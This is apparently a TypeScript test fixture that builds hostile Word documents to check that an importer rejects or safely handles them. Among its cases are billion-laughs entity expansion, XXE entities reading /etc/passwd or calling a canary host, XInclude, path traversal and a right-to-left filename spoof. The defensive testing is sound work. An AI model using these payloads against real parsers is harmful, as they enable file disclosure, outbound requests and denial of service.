import { english } from '#tests/fixtures/import/releases.ts'
import { wordParagraph, type ZipEntry } from '#tests/fixtures/import/write-zip.ts'
import { honest, replaced, runOf, shown, word } from '#tests/hostile/files/word-document.ts'
import { type Canary, type HostileFile, hostileFiles, opens, refused } from '#tests/hostile/hostile-file.ts'

/** Word documents whose XML attacks its reader. */
export function wordMarkup({ address, host, fileName }: Canary): readonly HostileFile[] {
  const unsafe = refused('XML_UNSAFE')
  const damaged = refused('XML_DAMAGED')
  const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
    '',
  )
  const doctype = (inner: string): string => `<!DOCTYPE w:document ${inner}>`
  return hostileFiles('docx', 'release.docx', [
    ['a billion laughs', word(wordParagraph('&l9;'), { prologue: doctype(`[<!ENTITY l0 "ha">${laughs}]`) }), unsafe],
    [
      'one long entity often',
      word(wordParagraph('&a;'.repeat(5_000)), { prologue: doctype(`[<!ENTITY a "${'a'.repeat(50_000)}">]`) }),
      unsafe,
    ],
    [
      'a file as an entity',
      word(wordParagraph('&x;'), { prologue: doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]') }),
      unsafe,
    ],
    [
      'an address as an entity',
      word(wordParagraph('&x;'), { prologue: doctype(`[<!ENTITY x SYSTEM "${address}/x">]`) }),
      unsafe,
    ],
    [
      'a name to look up as an entity',
      word(wordParagraph('&x;'), { prologue: doctype(`[<!ENTITY x SYSTEM "http://${host}/x">]`) }),
      unsafe,
    ],
    [
      'a share as an entity',
      word(wordParagraph('&x;'), { prologue: doctype(`[<!ENTITY x SYSTEM "\\\\${host}\\a">]`) }),
      unsafe,
    ],
    ['a document type from elsewhere', word(honest, { prologue: doctype(`SYSTEM "${address}/x.dtd"`) }), unsafe],
    ['a public document type', word(honest, { prologue: doctype(`PUBLIC "-//X//EN" "http://${host}/x.dtd"`) }), unsafe],
    ['a parameter entity', word(honest, { prologue: doctype(`[<!ENTITY % p SYSTEM "${address}/p">%p;]`) }), unsafe],
    [
      'an entity in its styles',
      word(honest, { more: [{ name: 'word/styles.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }] }),
      unsafe,
    ],
    ['an entity in its relations', () => replaced('_rels/.rels', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), unsafe],
    [
      'an entity in its types',
      () => replaced('[Content_Types].xml', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
      unsafe,
    ],
    [
      'an entity in UTF-16',
      () => replaced('word/document.xml', Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', 'utf16le')),
      unsafe,
    ],
    ['an unknown entity', word(wordParagraph('&nbsp;')), damaged],
    [
      'XInclude',
      word(`${honest}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`),
      opens([], { shows: english.body, hides: 'root:' }),
    ],
    [
      'a style sheet from elsewhere',
      word(honest, { prologue: `<?xml-stylesheet type="text/xsl" href="${address}/x.xsl"?>` }),
      shown,
    ],
    ['UTF-7', () => replaced('word/document.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'), damaged],
    ['bytes that are no UTF-8', () => replaced('word/document.xml', Buffer.from([0x3c, 0xff, 0xfe, 0x3e])), damaged],
    ['a lone surrogate', word(wordParagraph('&#xD800;')), damaged],
    ['a NUL', word(wordParagraph('&#0;')), damaged],
    ['elements 20,000 deep', word(`${'<w:sdt>'.repeat(20_000)}${honest}${'</w:sdt>'.repeat(20_000)}`), damaged],
    ['elements 200,000 deep that never end', word('<w:p>'.repeat(200_000)), damaged],
    [
      '100,000 attributes',
      word(`<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>${honest}`),
      damaged,
    ],
    ['an attribute twice', word(`<w:p w:a="1" w:a="2"/>${honest}`), damaged],
    ['text that ends too early', word('<w:p><w:r><w:t>open'), damaged],
    ['styles that stand on each other', withStyles(style('A', 'B') + style('B', 'A'), styled('A')), shown],
    ['a style that stands on itself', withStyles(style('A', 'A'), styled('A')), shown],
    [
      'styles in a chain of 20,000',
      withStyles(
        Array.from({ length: 20_000 }, (_, index) => style(`S${index}`, `S${index + 1}`)).join(''),
        styled('S0'),
      ),
      shown,
    ],
    ['lists that stand on each other', word(honest, { more: [numbering()] }), shown],
    [
      'styles with names of the prototype',
      withStyles(
        ['__proto__', 'constructor', 'toString'].map((id) => style(id, '__proto__')).join(''),
        styled('__proto__'),
      ),
      shown,
    ],
    [
      'a cell over two billion columns',
      word(
        `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge w:val="restart"/></w:tcPr>${honest}</w:tc></w:tr></w:tbl>`,
      ),
      opens(['tables-flattened'], { shows: english.body }),
    ],
    [
      'a list two billion deep',
      word(
        `<w:p><w:pPr><w:numPr><w:ilvl w:val="2000000000"/><w:numId w:val="99999999999"/></w:numPr></w:pPr>${runOf(english.body)}</w:p>`,
      ),
      shown,
    ],
    [
      'a note that refers to itself',
      word(`<w:p>${runOf(english.body)}<w:r><w:footnoteReference w:id="1"/></w:r></w:p>`, { more: [footnotes()] }),
      shown,
    ],
    [
      'direction turned without end',
      word(wordParagraph('Text \u202e\u202e\u2067 fdp.exe')),
      opens([], { shows: '\u202e' }),
    ],
    ['a file name that must not be made', word(wordParagraph(`../../${fileName}`)), opens([], { shows: fileName })],
  ])
}

const styles = (inner: string): ZipEntry => ({
  name: 'word/styles.xml',
  content: `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${inner}</w:styles>`,
})
const withStyles = (inner: string, body = honest) => word(body, { more: [styles(inner)] })

const styled = (id: string): string => `<w:p><w:pPr><w:pStyle w:val="${id}"/></w:pPr>${runOf(english.body)}</w:p>`
const style = (id: string, basedOn: string): string =>
  `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${basedOn}"/></w:style>`

function numbering(): ZipEntry {
  return {
    name: 'word/numbering.xml',
    content:
      '<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="L"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>',
  }
}

function footnotes(): ZipEntry {
  return {
    name: 'word/footnotes.xml',
    content: `<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p>${runOf('See')}<w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>`,
  }
}
